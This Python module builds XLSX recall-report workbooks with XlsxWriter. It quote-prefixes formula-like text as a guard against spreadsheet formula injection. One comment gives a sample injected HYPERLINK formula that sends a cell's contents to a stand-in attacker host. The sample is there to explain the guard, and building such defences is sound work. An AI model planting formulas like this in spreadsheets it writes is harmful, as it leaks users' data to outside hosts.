"""Every XLSX the product writes, in one call: ``xlsx_bytes([Table(...), Pairs(...)])``.

Written with XlsxWriter in constant-memory mode: each row goes to the sheet's file as it is
written, nothing is kept per cell. openpyxl (even write-only) builds a cell object per value and
costs about 5 µs a cell; a farm-wide recall's 16 000 rows × 21 columns took 13-22× its CSV.
XlsxWriter is a single pure-Python package with no dependencies, maintained since 2013 and written
against Excel's own files; it only writes, which is all the product needs (tests read the files
back with openpyxl). Its per-cell writers alone still took 9.5× the CSV, so a table's rows go
through ``_rows_sheet`` (one XML string per row): about 3× (bench/bench_recall_report.py).

What every sheet keeps, as the recall spreadsheet has always had it (FSMA 204's "electronic
sortable spreadsheet"): a header row, frozen; an autofilter over the whole table; numbers as numbers,
dates and times as date cells with a number format (UTC without zone: spreadsheets have none),
booleans as booleans. Text that a spreadsheet would evaluate (starting with ``= + - @``, tab or
carriage return; OWASP "CSV injection") is written as text with a quote prefix: shown as written,
never a formula. No text is turned into a formula, a number or a link.
"""

from __future__ import annotations

import contextlib
import functools
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from datetime import UTC, date, datetime
from math import isfinite
from typing import Any

NUMBER_FORMATS = {"date": "yyyy-mm-dd", "datetime": "yyyy-mm-dd hh:mm:ss"}
# Text a spreadsheet program would read as a formula: a supplier's site name
# ``=HYPERLINK("https://evil.example/?"&A1,"open")`` must stay the text it is.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# (key, header, kind): kind is how the cell is typed: "str", "num", "date", "datetime" (a value of
# another type in a "str" or "num" column is written as what it is).
Column = tuple[str, str, str]


@dataclass(frozen=True)
class Table:
    """A sortable table: header row from ``columns``, one row per mapping in ``rows``."""

    name: str
    columns: Sequence[Column]
    rows: Sequence[Mapping[str, Any]]


@dataclass(frozen=True)
class Pairs:
    """A two-column sheet of (label, value), e.g. a recall's summary."""

    name: str
    rows: Sequence[tuple[str, Any]]
    widths: tuple[float, float] = (40, 80)


def naive_utc(t: datetime) -> datetime:
    """UTC without tzinfo: spreadsheets have no time zones (headers say UTC)."""
    return t.astimezone(UTC).replace(tzinfo=None) if t.tzinfo is not None else t


def typed(value: Any, kind: str) -> Any:
    """``value`` as the cell type its column's ``kind`` says (ISO text to a date or time)."""
    if value is None:
        return None
    if kind == "datetime":
        return naive_utc(datetime.fromisoformat(value) if isinstance(value, str) else value)
    if kind == "date":
        return date.fromisoformat(value) if isinstance(value, str) else value
    return value


def xlsx_bytes(sheets: Iterable[Table | Pairs]) -> bytes:
    """The workbook's bytes, sheets in the order given."""
    import xlsxwriter

    out = io.BytesIO()
    wb = xlsxwriter.Workbook(
        out,
        {
            "constant_memory": True,  # rows go to the sheet's file as written: memory stays flat with size
            "strings_to_formulas": False,
            "strings_to_numbers": False,
            "strings_to_urls": False,
        },
    )
    try:
        cell = _Writer(wb)
        for sheet in sheets:
            if isinstance(sheet, Table):
                _table(wb.add_worksheet(sheet.name, worksheet_class=_rows_sheet()), cell, sheet)
                continue
            ws = wb.add_worksheet(sheet.name)
            _width(ws, 0, sheet.widths[0])
            _width(ws, 1, sheet.widths[1])
            for r, (label, value) in enumerate(sheet.rows):
                cell(ws, r, 0, label)
                cell(ws, r, 1, naive_utc(value) if isinstance(value, datetime) else value)
    except BaseException:
        with contextlib.suppress(Exception):
            wb.close()  # removes constant-memory mode's temporary row files; the bytes are dropped
        raise
    wb.close()
    return out.getvalue()


def _table(ws: Any, cell: _Writer, table: Table) -> None:
    cols = table.columns
    for i, (_, header, _) in enumerate(cols):
        _width(ws, i, max(12, min(40, len(header) + 2)))
    ws.freeze_panes(1, 0)
    ws.autofilter(0, 0, len(table.rows), len(cols) - 1)
    for i, (_, header, _) in enumerate(cols):
        cell(ws, 0, i, header)
    ws.append_rows(1, cols, table.rows, cell)


def _width(ws: Any, column: int, chars: float) -> None:
    """The column's stored width is ``chars`` exactly, as openpyxl wrote it: XlsxWriter's
    ``set_column`` adds Excel's 5-pixel padding to a width given in characters (23 is stored as
    23.71), while a width in pixels at Excel's 7 pixels a digit is stored as given."""
    ws.set_column_pixels(column, column, round(chars * 7))


class _Writer:
    """Writes one value with the writer of its type (never XlsxWriter's guessing ``write``)."""

    def __init__(self, wb: Any) -> None:
        self.quoted = wb.add_format({"quote_prefix": True})
        self.formats = {k: wb.add_format({"num_format": v}) for k, v in NUMBER_FORMATS.items()}

    def __call__(self, ws: Any, r: int, c: int, value: Any) -> None:
        if isinstance(value, str):
            if value.startswith(FORMULA_STARTS):
                ws.write_string(r, c, value, self.quoted)
            else:
                ws.write_string(r, c, value)
        elif isinstance(value, bool):
            ws.write_boolean(r, c, value)
        elif isinstance(value, (int, float)):
            ws.write_number(r, c, value)
        elif isinstance(value, datetime):
            ws.write_datetime(r, c, value, self.formats["datetime"])
        elif isinstance(value, date):
            ws.write_datetime(r, c, value, self.formats["date"])
        elif value is not None:
            ws.write_string(r, c, str(value))


_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f]|_x[0-9a-fA-F]{4}_")
_ESCAPES = re.compile("[&<>]")
# What in a string needs more than copying: a character to escape or a control character (one
# character class: a single fast scan), Excel's own "_xHHHH_" escape form, leading or trailing
# space (xml:space), a formula start (quote prefix). Most cells have none of it.
_ESCAPED = re.compile("[&<>\x00-\x08\x0b-\x1f]").search
_FIRST = frozenset("=+-@").union(c for c in map(chr, range(0x3001)) if c.isspace())  # formula starts, spaces


def _special(value: str) -> bool:
    """Whether ``value`` needs ``_string_cell`` (see ``_ESCAPED`` and ``_FIRST``)."""
    return value[:1] in _FIRST or value[-1:].isspace() or "_x" in value or _ESCAPED(value) is not None


_EPOCH = datetime(1899, 12, 30)  # Excel's day 0 for every date from 1900-03-01 on
_LEAP_BUG_ENDS = datetime(1900, 3, 1)


def _text(value: str) -> str:
    """Cell text as XlsxWriter writes an inline string: control characters as Excel's ``_xHHHH_``
    (a literal ``_xHHHH_`` kept as itself), ``& < >`` escaped."""
    if _CONTROL.search(value):
        from xlsxwriter.xmlwriter import XMLwriter

        value = XMLwriter._escape_control_characters(value)
    if _ESCAPES.search(value):
        value = value.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return value


def _string_cell(ref: str, value: str, quoted: str) -> str:
    """An inline-string cell, for text ``_SPECIAL`` matched."""
    t = _text(value)
    space = ' xml:space="preserve"' if t[:1].isspace() or t[-1:].isspace() else ""
    s = quoted if value.startswith(FORMULA_STARTS) else ""
    return f'<c r="{ref}"{s} t="inlineStr"><is><t{space}>{t}</t></is></c>'


def _serial(value: date | datetime, slow: Any) -> float:
    """Excel's serial day number (the 1900 date system), as XlsxWriter computes it (``slow``, used
    for the few dates before 1900-03-01 where Excel's 1900 leap-year bug shifts them)."""
    t = value if isinstance(value, datetime) else datetime(value.year, value.month, value.day)
    if t.tzinfo is not None:
        t = naive_utc(t)
    if t < _LEAP_BUG_ENDS:
        return float(slow(value))
    return (t - _EPOCH).total_seconds() / 86400


@functools.cache
def _rows_sheet() -> type:
    """An XlsxWriter worksheet (its ``worksheet_class`` hook) that writes a table's rows as one XML
    string each, straight to the row file constant-memory mode keeps: the same cells, styles and
    escapes as ``write_string`` / ``write_number`` / ``write_datetime`` write, without their
    per-cell bookkeeping (a cell object, a dimension check and an attribute list per value), which
    is most of XlsxWriter's ~5 µs a cell. Everything else (styles, widths, frozen pane, filter,
    the package) is XlsxWriter's own. Relies on constant-memory mode's row file (``fh``) and
    ``_write_single_row``, stable across XlsxWriter 3.x (pinned below 4)."""
    from xlsxwriter.utility import xl_col_to_name
    from xlsxwriter.worksheet import Worksheet

    class RowsSheet(Worksheet):  # type: ignore[misc]
        previous_row: int  # constant-memory mode's last row number written (or being written)

        def append_rows(
            self, first: int, columns: Sequence[Column], rows: Sequence[Mapping[str, Any]], cell: _Writer
        ) -> None:
            if not rows:
                return
            assert self.constant_memory and first > self.previous_row, "rows follow what is written"
            self._write_single_row(first)  # flushes the row before (the header)
            quoted = f' s="{cell.quoted._get_xf_index()}"'
            styles = {k: f' s="{f._get_xf_index()}"' for k, f in cell.formats.items()}
            plan = [(key, kind, xl_col_to_name(i), styles.get(kind)) for i, (key, _, kind) in enumerate(columns)]
            date_cell = self._convert_date_time
            special = _special
            write = self.fh.write
            n = first
            for row in rows:
                n += 1  # the XML row number is 1-based
                out = [f'<row r="{n}">']
                for key, kind, letter, style in plan:
                    v = row[key]
                    if v is None:
                        continue
                    if style is not None:
                        v = typed(v, kind)
                        if isinstance(v, (date, datetime)):
                            out.append(f'<c r="{letter}{n}"{style}><v>{_serial(v, date_cell):.16G}</v></c>')
                            continue
                    if isinstance(v, str):
                        if special(v):
                            out.append(_string_cell(f"{letter}{n}", v, quoted))
                        else:
                            out.append(f'<c r="{letter}{n}" t="inlineStr"><is><t>{v}</t></is></c>')
                    elif isinstance(v, bool):
                        out.append(f'<c r="{letter}{n}" t="b"><v>{int(v)}</v></c>')
                    elif isinstance(v, int) or (isinstance(v, float) and isfinite(v)):
                        out.append(f'<c r="{letter}{n}"><v>{v:.16G}</v></c>')
                    elif isinstance(v, (date, datetime)):  # a time in a column not typed as one
                        style = styles["datetime" if isinstance(v, datetime) else "date"]
                        out.append(f'<c r="{letter}{n}"{style}><v>{_serial(v, date_cell):.16G}</v></c>')
                    elif isinstance(v, float):
                        raise ValueError(f"{key}: expected a finite number for a spreadsheet cell, got {v}")
                    else:
                        out.append(_string_cell(f"{letter}{n}", str(v), ""))
                out.append("</row>")
                write("".join(out))
            self._check_dimensions(first, 0)
            self._check_dimensions(n - 1, len(columns) - 1)
            self.previous_row = n - 1

    return RowsSheet
